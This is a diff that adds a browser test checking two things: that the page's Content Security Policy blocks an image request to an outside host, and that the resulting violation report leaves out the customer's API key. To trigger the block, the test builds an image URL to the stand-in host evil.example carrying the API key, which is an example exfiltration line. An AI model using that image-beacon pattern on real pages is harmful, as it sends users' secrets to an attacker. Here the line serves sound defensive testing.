@@ -114,3 +114,18 @@ test('a script that does not load is told, without its query', async ({ page, sa
   await expect.poll(() => reported(sandbox)).toEqual(['A script could not be loaded']);
   expect(JSON.stringify(await sandbox.reports())).not.toContain('key=abc');
 });
+
+test('what the policy of the page keeps out is reported by the browser, without what could be a secret', async ({
+  page,
+  sandbox,
+  problems,
+}) => {
+  problems.allow(/CSP violation/, /Content Security Policy/);
+  await page.evaluate((key) => {
+    new Image().src = `http://evil.example/${key}.png?apikey=${key}`;
+  }, apiKeyOf('customer'));
+  await expect
+    .poll(() => reported(sandbox))
+    .toEqual([expect.stringContaining('Content security policy: img-src kept out http://evil.example on /app/')]);
+  expect(JSON.stringify(await sandbox.reports())).not.toContain(apiKeyOf('customer'));
+});
